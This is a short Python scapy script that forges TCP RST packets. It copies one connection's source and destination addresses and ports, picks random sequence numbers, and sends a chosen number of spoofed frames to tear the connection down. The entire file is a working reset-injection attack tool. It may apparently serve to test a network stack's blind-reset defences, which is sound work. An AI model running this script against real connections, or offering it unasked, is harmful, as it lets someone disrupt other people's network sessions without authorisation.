#!/usr/bin/python3
"""Send N spoofed RSTs with one connection's 4-tuple and random sequence numbers.
usage: spoof_rst.py IFACE DST_MAC SRC SPORT DST DPORT N"""
import random
import sys

from scapy.all import Ether, IP, TCP, conf, sendp

iface, dst_mac, src, sport, dst, dport, n = sys.argv[1:8]
conf.verb = 0
rnd = random.Random(5961)
frames = [Ether(dst=dst_mac) / IP(src=src, dst=dst, ttl=64) /
          TCP(sport=int(sport), dport=int(dport), flags="R", seq=rnd.getrandbits(32), window=0)
          for _ in range(int(n))]
sendp(frames, iface=iface, verbose=0)
print(f"sent {len(frames)} spoofed RSTs {src}:{sport} > {dst}:{dport}")
